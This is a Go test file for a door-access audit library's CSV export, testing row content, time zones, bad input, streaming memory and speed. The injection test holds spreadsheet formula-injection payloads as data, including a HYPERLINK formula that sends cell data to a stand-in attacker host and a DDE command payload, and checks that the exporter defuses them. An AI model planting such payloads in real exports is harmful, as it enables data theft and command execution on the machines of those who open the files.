package reports_test

import (
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/doorledger/doorledger"
	"github.com/doorledger/doorledger/reports"
)

// MustCSV writes r as CSV and parses it back.
func MustCSV(tb testing.TB, r *doorledger.AuditReport) ([]byte, [][]string) {
	tb.Helper()
	var buf bytes.Buffer
	if err := reports.AuditReportCSV(&buf, r); err != nil {
		tb.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		tb.Fatalf("the CSV does not parse: %v", err)
	}
	return buf.Bytes(), rows
}

func TestAuditReportCSV_Golden(t *testing.T) {
	got, _ := MustCSV(t, SampleAuditReport(t))
	again, _ := MustCSV(t, SampleAuditReport(t))
	if !bytes.Equal(got, again) {
		t.Fatal("the same report gave two different CSVs")
	}
	golden := filepath.Join("testdata", "audit.golden.csv")
	if *update {
		if err := os.WriteFile(golden, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatalf("%v (run with -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		out := filepath.Join(t.TempDir(), "audit.got.csv")
		_ = os.WriteFile(out, got, 0o644)
		t.Errorf("CSV differs from %s; got is at %s; rerun with -update if the change is intended", golden, out)
	}
}

// TestAuditReportCSV_Rows checks each row against the event it comes from,
// with the PDF's names for devices and anomalies.
func TestAuditReportCSV_Rows(t *testing.T) {
	r := SampleAuditReport(t)
	_, rows := MustCSV(t, r)
	wantHeader := []string{"occurred_at (Europe/Zurich)", "device_id", "device", "method", "actor_ref", "result", "anomalies",
		"event_id", "received_at (Europe/Zurich)", "unlock_id", "source", "acknowledged_at (Europe/Zurich)", "acknowledged_by", "ack_note",
		"effective_at (Europe/Zurich)"}
	if got := strings.Join(rows[0], "|"); got != strings.Join(wantHeader, "|") {
		t.Fatalf("header = %q, want %q", got, wantHeader)
	}
	labels := map[int64]string{3: "#3 SN-4F2A-0091-ZX", 4: "#4 PB2-00417-Ω", 5: "#5 FOUND-0007"}
	zurich, _ := time.LoadLocation("Europe/Zurich")
	i := 1
	r.Events(func(ev *doorledger.UnlockEvent) error {
		if i >= len(rows) {
			t.Fatalf("%d rows for more events", len(rows)-1)
		}
		row := rows[i]
		i++
		device, deviceID := labels[ev.DeviceID], strconv.FormatInt(ev.DeviceID, 10)
		if ev.DeviceID == 0 {
			device, deviceID = "unregistered: "+ev.DeviceRef, ""
		}
		var flags []string
		for _, k := range ev.Anomalies {
			flags = append(flags, strings.ReplaceAll(k, "_", " "))
		}
		var ackAt string
		if ev.Acknowledged() {
			ackAt = ev.AcknowledgedAt.In(zurich).Format(time.RFC3339)
		}
		want := []string{ev.OccurredAt.In(zurich).Format(time.RFC3339), deviceID, device, ev.Method, ev.ActorRef, string(ev.Result),
			strings.Join(flags, ", "), ev.EventID, ev.ReceivedAt.In(zurich).Format(time.RFC3339Nano), strconv.FormatInt(ev.ID, 10), ev.Source,
			ackAt, ev.AcknowledgedBy, ev.AckNote, ev.EffectiveAt().In(zurich).Format(time.RFC3339)}
		if got := strings.Join(row, "|"); got != strings.Join(want, "|") {
			t.Errorf("row %d:\n got %q\nwant %q", i-1, row, want)
		}
		return nil
	})
	if i != len(rows) || i != 301 {
		t.Errorf("%d rows, want 300 events and the header", len(rows))
	}
	for _, want := range []string{"after revocation, without consent", "unregistered: relay-Ω-9", oddActor, "outside hours",
		"2026-11-12T11:20:00+01:00|" + bulkAckBy + "|" + bulkAckNote, ackNote} {
		found := false
		for _, row := range rows {
			found = found || strings.Contains(strings.Join(row, "|"), want)
		}
		if !found {
			t.Errorf("no row holds %q", want)
		}
	}
}

// someEvents returns an Events function yielding evs.
func someEvents(evs ...doorledger.UnlockEvent) func(yield func(*doorledger.UnlockEvent) error) error {
	return func(yield func(*doorledger.UnlockEvent) error) error {
		for i := range evs {
			if err := yield(&evs[i]); err != nil {
				return err
			}
		}
		return nil
	}
}

func TestAuditReportCSV_Injection(t *testing.T) {
	r := SampleAuditReport(t)
	at := time.Date(2026, 11, 5, 12, 0, 0, 0, time.UTC)
	var evs []doorledger.UnlockEvent
	bad := []string{`=HYPERLINK("http://evil.example/?"&A1,"click")`, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"}
	for i, s := range bad {
		evs = append(evs, doorledger.UnlockEvent{ID: int64(i + 1), DeviceID: 3, EventID: s, OccurredAt: at, ReceivedAt: at,
			Method: s, ActorRef: s, Result: doorledger.UnlockResult(s), Source: s, Anomalies: []string{"=x"},
			AcknowledgedAt: at.Add(time.Hour), AcknowledgedBy: s, AckNote: s})
	}
	evs = append(evs, doorledger.UnlockEvent{ID: 99, DeviceRef: "=cmd|' /C calc'!A0", BuildingID: 7, EventID: "ok-1", OccurredAt: at,
		Method: "keypad", ActorRef: "a=b", Result: doorledger.UnlockGranted})
	r.Events = someEvents(evs...)
	_, rows := MustCSV(t, r)
	for i, s := range bad {
		row := rows[i+1]
		for _, col := range []int{3, 4, 5, 7, 10, 12, 13} {
			if got, want := row[col], "'"+s; got != want {
				t.Errorf("event %d column %d = %q, want %q", i, col, got, want)
			}
		}
		if got, want := row[6], "=x"; got != "'"+want {
			t.Errorf("event %d anomalies = %q, want %q", i, got, "'"+want)
		}
		if got, want := row[11], "2026-11-05T14:00:00+01:00"; got != want {
			t.Errorf("event %d acknowledged_at = %q, want %q", i, got, want)
		}
	}
	last := rows[len(bad)+1]
	if got, want := last[2], "unregistered: =cmd|' /C calc'!A0"; got != want {
		t.Errorf("device = %q, want %q", got, want)
	}
	if got, want := last[4], "a=b"; got != want {
		t.Errorf("actor_ref = %q, want %q (only a leading sign is defused)", got, want)
	}
	for _, row := range rows {
		for j, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("cell %d of %q starts a formula", j, row)
			}
		}
	}
}

func TestAuditReportCSV_TimeZones(t *testing.T) {
	for _, tt := range []struct {
		tz, from, to string
		at           []time.Time
		want         []string
	}{
		// New York leaves daylight saving time on 2026-11-01 at 02:00: 01:30
		// comes twice, told apart by the offset.
		{"America/New_York", "2026-10-31", "2026-11-01",
			[]time.Time{time.Date(2026, 10, 31, 4, 0, 0, 0, time.UTC), time.Date(2026, 11, 1, 5, 30, 0, 0, time.UTC),
				time.Date(2026, 11, 1, 6, 30, 0, 250e6, time.UTC), time.Date(2026, 11, 2, 4, 59, 59, 0, time.UTC)},
			[]string{"2026-10-31T00:00:00-04:00", "2026-11-01T01:30:00-04:00", "2026-11-01T01:30:00.25-05:00", "2026-11-01T23:59:59-05:00"}},
		{"UTC", "2026-11-01", "2026-11-01",
			[]time.Time{time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC), time.Date(2026, 11, 1, 23, 59, 59, 999999000, time.UTC)},
			[]string{"2026-11-01T00:00:00Z", "2026-11-01T23:59:59.999999Z"}},
		{"Asia/Kolkata", "2026-11-01", "2026-11-01",
			[]time.Time{time.Date(2026, 10, 31, 18, 30, 0, 0, time.UTC)},
			[]string{"2026-11-01T00:00:00+05:30"}},
	} {
		t.Run(tt.tz, func(t *testing.T) {
			r := SampleAuditReport(t)
			r.Building.Timezone, r.From, r.To = tt.tz, tt.from, tt.to
			var evs []doorledger.UnlockEvent
			for i, at := range tt.at {
				evs = append(evs, doorledger.UnlockEvent{ID: int64(i + 1), DeviceID: 3, EventID: strconv.Itoa(i), OccurredAt: at, ReceivedAt: at.Add(time.Second),
					Method: "keypad", Result: doorledger.UnlockGranted})
			}
			r.Events = someEvents(evs...)
			_, rows := MustCSV(t, r)
			if got, want := rows[0][0], "occurred_at ("+tt.tz+")"; got != want {
				t.Errorf("header = %q, want %q", got, want)
			}
			if got, want := rows[0][8], "received_at ("+tt.tz+")"; got != want {
				t.Errorf("header = %q, want %q", got, want)
			}
			for i, want := range tt.want {
				if got := rows[i+1][0]; got != want {
					t.Errorf("event %d at %s = %q, want %q", i, tt.at[i], got, want)
				}
				if got, err := time.Parse(time.RFC3339Nano, rows[i+1][0]); err != nil || !got.Equal(tt.at[i]) {
					t.Errorf("event %d: %q reads back as %v (%v), want %s", i, rows[i+1][0], got, err, tt.at[i])
				}
			}
		})
	}
}

func TestAuditReportCSV_BadInput(t *testing.T) {
	r := SampleAuditReport(t)
	r.From, r.To = "2026-11-21", "2026-11-01"
	if err := reports.AuditReportCSV(io.Discard, r); doorledger.ErrorCode(err) != doorledger.EINVALID {
		t.Errorf("range ending before it starts: %v, want EINVALID", err)
	}

	r = SampleAuditReport(t)
	outside := time.Date(2026, 11, 21, 23, 0, 0, 0, time.UTC) // 2026-11-22 00:00 in Zurich: the day after To
	r.Events = someEvents(doorledger.UnlockEvent{ID: 5, DeviceID: 3, EventID: "x", OccurredAt: outside, Method: "keypad", Result: doorledger.UnlockGranted})
	if err := reports.AuditReportCSV(io.Discard, r); err == nil || !strings.Contains(err.Error(), "outside the report's range") {
		t.Errorf("event outside the range: %v", err)
	}

	// No events and no devices: the header alone.
	r = SampleAuditReport(t)
	r.Events, r.Devices = nil, nil
	_, rows := MustCSV(t, r)
	if len(rows) != 1 {
		t.Errorf("%d rows without events, want the header alone", len(rows))
	}
}

// TestAuditReportCSV_ConstantMemory streams 200,000 events through the CSV
// and checks that the live heap does not grow with them: the file (about
// 25 MB) must be written as it goes, not held.
func TestAuditReportCSV_ConstantMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("streams 200,000 events")
	}
	const n = 200_000
	r := SampleAuditReport(t)
	sample := SampleEvents(r, n)
	var ms runtime.MemStats
	live := func() uint64 {
		runtime.GC()
		runtime.ReadMemStats(&ms)
		return ms.HeapAlloc
	}
	base := live()
	var peak uint64
	seen := 0
	r.Events = func(yield func(*doorledger.UnlockEvent) error) error {
		return sample(func(ev *doorledger.UnlockEvent) error {
			seen++
			if seen%20_000 == 0 {
				peak = max(peak, live())
			}
			return yield(ev)
		})
	}
	h := sha256.New()
	w := &lineCounter{w: h}
	if err := reports.AuditReportCSV(w, r); err != nil {
		t.Fatal(err)
	}
	if w.lines != n+1 {
		t.Errorf("%d lines for %d events", w.lines, n)
	}
	if w.bytes < 20<<20 {
		t.Errorf("%d bytes for %d events: the check needs a file far larger than the allowance", w.bytes, n)
	}
	const allowance = 2 << 20
	if peak > base+allowance {
		t.Errorf("live heap grew from %d to %d bytes while %d bytes of CSV streamed", base, peak, w.bytes)
	}
	t.Logf("%d events, %d bytes of CSV: live heap %d bytes before, at most %d while streaming", n, w.bytes, base, peak)
}

type lineCounter struct {
	w            io.Writer
	lines, bytes int
}

func (c *lineCounter) Write(p []byte) (int, error) {
	c.lines += bytes.Count(p, []byte{'\n'})
	c.bytes += len(p)
	return c.w.Write(p)
}

// BenchmarkAuditReportCSV writes the CSV of 100,000 events and, in the same
// run, only walks the generated events, so that the difference is the CSV's
// own cost.
func BenchmarkAuditReportCSV(b *testing.B) {
	const n = 100_000
	r := SampleAuditReport(b)
	r.Events = SampleEvents(r, n)
	b.Run("walk", func(b *testing.B) {
		for b.Loop() {
			if err := r.Events(func(*doorledger.UnlockEvent) error { return nil }); err != nil {
				b.Fatal(err)
			}
		}
		b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/n, "ns/event")
	})
	b.Run("csv", func(b *testing.B) {
		for b.Loop() {
			w := &lineCounter{w: io.Discard}
			if err := reports.AuditReportCSV(w, r); err != nil {
				b.Fatal(err)
			}
			b.SetBytes(int64(w.bytes))
		}
		b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/n, "ns/event")
	})
}
